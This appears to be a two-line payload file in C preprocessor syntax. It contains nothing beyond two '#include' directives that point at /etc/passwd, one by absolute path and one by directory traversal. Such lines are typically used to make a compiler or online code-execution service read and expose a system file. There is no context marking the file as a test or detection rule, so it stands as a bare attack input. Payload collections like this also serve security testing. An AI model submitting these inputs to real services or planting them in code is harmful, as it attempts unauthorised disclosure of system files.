#include "/etc/passwd"
#include "../../../../../../etc/passwd"
